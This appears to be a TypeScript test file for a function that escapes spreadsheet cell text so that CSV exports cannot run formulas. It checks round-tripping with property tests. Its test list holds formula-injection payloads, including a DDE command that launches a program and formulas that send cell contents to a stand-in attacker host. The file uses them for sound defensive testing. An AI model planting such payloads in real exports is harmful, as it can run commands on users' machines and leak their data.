import fc from 'fast-check';
import { expect, test } from 'vitest';
import { defuse, undefuse } from './defused-cell.ts';

/** What has been used to make a spreadsheet run something, or fetch it. */
const formulas = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
  '=WEBSERVICE("http://evil.example")',
  '+1+1',
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  "'=1+1",
];

test.each(formulas)('%j is no formula any more, and comes back', (text) => {
  expect(defuse(text)).toBe(`'${text}`);
  expect(undefuse(defuse(text))).toBe(text);
});

test.each(['2024-04', 'April 2024', '1e5', '007', '3/4', '1:30', '2024-36'])(
  'a spreadsheet does not turn %s into something else',
  (text) => {
    expect(defuse(text)).toBe(`'${text}`);
  },
);

test.each(['2024', '2024-04-24', '[2024..2025]', '12', 'A title = 3', 'about 2024', 'China 5', ''])(
  '%j stands as it is',
  (text) => {
    expect(defuse(text)).toBe(text);
  },
);

test('every text comes back', () => {
  fc.assert(
    fc.property(fc.string({ unit: 'grapheme' }), (text) => {
      expect(undefuse(defuse(text))).toBe(text);
      expect(undefuse(defuse(`'${text}`))).toBe(`'${text}`);
    }),
  );
});
